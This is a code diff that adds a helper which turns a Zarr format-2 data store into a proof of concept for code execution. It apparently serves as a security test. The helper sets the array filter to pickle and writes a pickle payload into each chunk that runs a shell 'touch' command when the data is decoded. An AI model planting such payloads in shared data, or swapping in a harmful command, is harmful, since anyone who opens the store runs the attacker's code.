@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 from typing import Any
 
@@ -64,3 +65,14 @@ def upload(path: str, bucket: Any) -> None:
     for file in Path(path).rglob("*"):
         if file.is_file():
             bucket.put(file.relative_to(path).as_posix(), file.read_bytes())
+
+
+def armed(store: Path, array: str, proof: Path) -> None:
+    """Have an array of a store in format 2 run code when it is decoded: it would make a file."""
+    said = json.loads((store / array / ".zarray").read_text())
+    said |= {"filters": [{"id": "pickle"}], "compressor": None, "fill_value": None, "dtype": "|O"}
+    (store / array / ".zarray").write_text(json.dumps(said))
+    for chunk in store.joinpath(array).glob("[0-9]*"):
+        chunk.write_bytes(b"cposix\nsystem\n(S'touch %s'\ntR." % str(proof).encode())
+    documents = {path.relative_to(store).as_posix(): json.loads(path.read_text()) for path in store.rglob(".z[ag]*")}
+    (store / ".zmetadata").write_text(json.dumps({"zarr_consolidated_format": 1, "metadata": documents}))
